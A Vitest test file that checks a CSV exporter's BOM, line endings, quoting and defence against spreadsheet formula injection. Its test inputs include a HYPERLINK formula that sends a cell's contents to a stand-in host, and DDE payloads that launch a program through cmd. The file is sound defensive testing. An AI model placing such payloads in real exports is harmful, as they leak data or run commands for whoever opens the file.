import { describe, expect, it } from 'vitest';
import { csvCell, csvTable, toCsv } from './csv.ts';

describe('toCsv', () => {
  it('starts with a UTF-8 BOM, uses CRLF and quotes cells with commas, quotes or line breaks', () => {
    const csv = toCsv(
      [
        { nombre: 'Ñuble, "centro"', valor: 1.5 },
        { nombre: 'Línea\nnueva', valor: null },
      ],
      [
        { header: 'Nombre', value: (row) => row.nombre },
        { header: 'Población (hab.)', value: (row) => row.valor },
      ],
    );
    expect(csv).toBe('\uFEFFNombre,Población (hab.)\r\n"Ñuble, ""centro""",1.5\r\n"Línea\nnueva",\r\n');
  });

  it('writes a table without the BOM when asked', () => {
    expect(csvTable(['codigo', 'monto'], [['L1', -2500]], { bom: false })).toBe('codigo,monto\r\nL1,-2500\r\n');
  });
});

describe('csvCell against formula injection (OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://x.test/?"&A1,"Ver detalle")', `"'=HYPERLINK(""http://x.test/?""&A1,""Ver detalle"")"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['- sin dato', `"'- sin dato"`],
  ])('neutralises %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it('leaves numbers alone, negative ones included, and text that is a plain number', () => {
    expect(csvCell(-70.75)).toBe('-70.75');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('-1250.5')).toBe('-1250.5');
    expect(csvCell('+3e-4')).toBe('+3e-4');
  });

  it('leaves ordinary text alone, an equals sign inside it included', () => {
    expect(csvCell('Villa Los Naranjos')).toBe('Villa Los Naranjos');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell({ antes: '=1+1' })).toBe('"{""antes"":""=1+1""}"');
  });
});
